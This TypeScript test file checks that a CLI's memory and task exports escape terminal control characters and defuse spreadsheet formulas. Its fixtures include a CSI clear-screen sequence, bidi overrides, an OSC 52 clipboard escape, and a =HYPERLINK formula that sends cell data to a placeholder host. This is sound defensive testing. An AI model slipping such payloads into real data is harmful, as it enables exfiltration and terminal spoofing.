import {readFileSync} from 'node:fs';
import {join} from 'node:path';
import {describe, expect, it} from 'vitest';
import {homePerTest, json} from './helpers/cli.js';
import {magisIn} from './helpers/in-process.js';

/**
 * Issue 39: an export is written as `--json` is. A memory or task holding an 8-bit CSI (U+009B),
 * a right-to-left override (U+202E) or DEL reached the terminal raw through `magis export` and
 * `magis memories export` (stdout, or a file later `cat`ed); each is now written as its \u escape
 * — still the same JSON, so the file imports back whole, every character in place.
 */
const newHome = homePerTest();
const ENV = {env: {LANG: 'en_US.UTF-8', MAGIS_NOW: '2026-11-24T09:00:00Z'}};
const MEMORY = 'The gate code is 4471\u009b2J and the \u202eyek\u202c is under the mat\u007f';
const TASK = 'ring the plumber\u009b31m about the \u202eknis\u007f';
/** What a terminal acts on but newline and tab: C0, DEL, C1, bidi marks, embeddings, overrides and isolates, line and paragraph separators. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

async function filledHome(): Promise<string> {
  const home = newHome();
  expect((await magisIn(home, ['memories', 'add', MEMORY], ENV)).status).toBe(0);
  expect((await magisIn(home, ['tasks', 'add', TASK], ENV)).status).toBe(0);
  return home;
}

describe('exports escape terminal controls and import back whole', () => {
  it('magis export, to stdout and to a file: no raw control, and import restores the memory and the task', async () => {
    const home = await filledHome();
    const out = await magisIn(home, ['export'], ENV);
    expect(out.status).toBe(0);
    expect(RAW.test(out.stdout), JSON.stringify(out.stdout.match(RAW))).toBe(false);
    expect(out.stdout).toContain('\\u009b2J');
    expect(out.stdout).toContain('\\u202eyek');
    expect(out.stdout).toContain('\\u007f');

    const file = join(home, '..', 'everything.json');
    expect((await magisIn(home, ['export', '-o', file], ENV)).status).toBe(0);
    const text = readFileSync(file, 'utf8');
    expect(RAW.test(text)).toBe(false);
    expect(text).toBe(out.stdout);
    const doc = JSON.parse(text);
    expect(doc.tables.memories.map((m: {content: string}) => m.content)).toEqual([MEMORY]);

    const other = newHome();
    const imported = await magisIn(other, ['import', file], ENV);
    expect(imported.status, imported.stderr).toBe(0);
    expect((json(await magisIn(other, ['memories', 'list', '--json'], ENV)) as Array<{content: string}>).map(m => m.content)).toEqual([MEMORY]);
    expect((json(await magisIn(other, ['tasks', '--json'], ENV)) as Array<{description: string}>).map(t => t.description)).toEqual([TASK]);
  });

  it('magis memories export as json and jsonl: no raw control, and memories import restores the text exactly', async () => {
    const home = await filledHome();
    for (const format of ['json', 'jsonl']) {
      const out = await magisIn(home, ['memories', 'export', '--format', format], ENV);
      expect(out.status).toBe(0);
      expect(RAW.test(out.stdout), `${format}: ${JSON.stringify(out.stdout.match(RAW))}`).toBe(false);
      expect(out.stdout).toContain('\\u202eyek');
      const file = join(home, '..', `memories.${format}`);
      expect((await magisIn(home, ['memories', 'export', '--format', format, '-o', file], ENV)).status).toBe(0);
      expect(readFileSync(file, 'utf8')).toBe(out.stdout);

      const other = newHome();
      const imported = await magisIn(other, ['memories', 'import', file], ENV);
      expect(imported.status, imported.stderr).toBe(0);
      expect((json(await magisIn(other, ['memories', 'list', '--json'], ENV)) as Array<{content: string}>).map(m => m.content)).toEqual([MEMORY]);
    }
  });

  it('memories export as csv and md: controls shown as escapes, and a formula opens as text in a spreadsheet', async () => {
    const home = newHome();
    const LINK = '=HYPERLINK("http://example.test/?d="&A1,"details") for the \u001b]52;c;Y2xpcA==\u0007 boiler';
    for (const text of [MEMORY, LINK, '+1 555 0100 is the plumber', '@here the bins go out on Tuesday']) {
      expect((await magisIn(home, ['memories', 'add', text], ENV)).status).toBe(0);
    }
    for (const format of ['csv', 'md']) {
      const out = await magisIn(home, ['memories', 'export', '--format', format], ENV);
      expect(out.status).toBe(0);
      expect(RAW.test(out.stdout), `${format}: ${JSON.stringify(out.stdout.match(RAW))}`).toBe(false);
      expect(out.stdout).toContain('\\u009b2J');
      expect(out.stdout).toContain('\\u202eyek');
      expect(out.stdout).toContain('\\u001b]52;c;Y2xpcA==\\u0007 boiler');
    }
    // Every text cell a spreadsheet would evaluate begins with an apostrophe; no cell begins with =, +, - or @.
    const rows = (await magisIn(home, ['memories', 'export', '--format', 'csv'], ENV)).stdout.trim().split('\n').slice(1);
    const content = rows.map(r => r.split(',').slice(6).join(','));
    expect(content.some(c => c.startsWith(`"'=HYPERLINK(""http://example.test/?d=""&A1,""details"")`))).toBe(true);
    expect(content.some(c => c.startsWith("'+1 555 0100 is the plumber"))).toBe(true);
    expect(content.some(c => c.startsWith("'@here the bins"))).toBe(true);
    for (const row of rows) for (const cell of row.split(',')) expect(cell, row).not.toMatch(/^"?[=+@]/);
  });
});
